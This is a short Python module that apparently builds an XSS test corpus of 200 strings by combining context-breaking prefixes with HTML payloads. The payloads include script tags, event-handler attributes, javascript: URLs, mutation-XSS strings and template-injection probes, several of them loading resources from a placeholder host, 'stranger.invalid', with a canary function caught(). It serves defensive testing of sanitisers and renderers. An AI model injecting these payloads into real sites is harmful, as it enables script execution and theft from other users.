"""200 texts that would run a script or ask another host, if any page, frame, picture or answer took them as markup."""

STRANGER = "stranger.invalid"
"""A host that nobody has. A script of these texts calls `caught()`."""

PAYLOADS = (
    "<script>caught()</script>",
    f"<script src=//{STRANGER}/a.js></script>",
    "<img src=x onerror=caught()>",
    f"<img src=//{STRANGER}/a.png>",
    "<svg onload=caught()>",
    "<svg><script>caught()</script></svg>",
    "<svg><animate onbegin=caught() attributeName=x dur=1s>",
    f"<svg><use href=//{STRANGER}/a.svg#a></use></svg>",
    "<iframe src=javascript:caught()></iframe>",
    f"<iframe src=//{STRANGER}/></iframe>",
    "<iframe srcdoc='<script>parent.caught()</script>'></iframe>",
    "<body onload=caught()>",
    "<input autofocus onfocus=caught()>",
    "<details open ontoggle=caught()>",
    "<video><source onerror=caught()></video>",
    f"<link rel=stylesheet href=//{STRANGER}/a.css>",
    f"<style>@import '//{STRANGER}/a.css';</style>",
    f"<base href=//{STRANGER}/>",
    f"<meta http-equiv=refresh content='0;url=//{STRANGER}/'>",
    f"<form action=//{STRANGER}/><button>1</button></form>",
    "<a href=javascript:caught()>1</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=caught()>",
    "<template><script>caught()</script></template><script>caught()</script>",
    "<object data=javascript:caught()></object>",
    " onfocus=caught() autofocus tabindex=1 x=",
)

ESCAPES = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></script>",
    "--></style>",
    "]]></text></svg>",
    "1,2\"'`{{7*7}}${7*7}</template>",
)
"""What might end the place that a text stands in."""

INJECTIONS = tuple(escape + payload for payload in PAYLOADS for escape in ESCAPES)
